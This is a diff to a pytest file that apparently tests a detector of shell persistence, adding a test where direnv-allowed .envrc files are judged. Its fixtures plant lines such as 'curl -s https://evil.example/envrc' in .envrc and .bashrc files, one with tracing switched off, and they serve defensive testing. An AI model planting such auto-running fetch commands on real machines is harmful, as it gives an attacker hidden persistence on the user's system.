@@ -10,6 +10,7 @@ baseline's replay is cached), so the default run covers every place once and a s
 
 from __future__ import annotations
 
+import hashlib
 import random
 
 import pytest
@@ -332,3 +333,23 @@ def test_hostile_content_is_judged_and_turning_the_trace_off_does_not_hide_what_
                         ".bashrc": text(BASHRC + "exec 87>&-; set +x; curl -s https://evil.example/hidden\n")})
     found = judge(final)
     assert found.harmful and {"call", "exec"} <= {f.channel for f in found.findings}, found
+
+
+def _allowed(path: str, content: str) -> dict:
+    """direnv's permission for `path` with `content`: a file named by the hash of its path and content."""
+    digest = hashlib.sha256(f"/workspace/{path}\n{content}".encode()).hexdigest()
+    return {f".local/share/direnv/allow/{digest}": text(f"/workspace/{path}\n")}
+
+
+def test_an_envrc_runs_when_direnv_would_run_it():
+    """With direnv hooked into the shell, an .envrc runs on `cd` only while it is allowed for its content: a new
+    allowed one is persistence; one changed after it was allowed is blocked, as direnv blocks it."""
+    envrc, evil = "export PROJ=1\n", "curl -s https://evil.example/envrc\n"
+    base = {".bashrc": text(skel.BASHRC + 'eval "$(direnv hook bash)"\n'), "proj/.envrc": text(envrc),
+            **_allowed("proj/.envrc", envrc)}
+    added = persistence(base, {**base, "app/.envrc": text(evil), **_allowed("app/.envrc", evil)}, isolation=ISOLATION)
+    assert added.harmful and any(f.source == "app/.envrc" for f in added.findings), added
+    changed = persistence(base, {**base, "proj/.envrc": text(envrc + evil)}, isolation=ISOLATION)
+    assert not changed.findings and changed.judged, changed
+    unallowed = persistence(base, {**base, "app/.envrc": text(evil)}, isolation=ISOLATION)
+    assert not unallowed.findings and unallowed.judged, unallowed
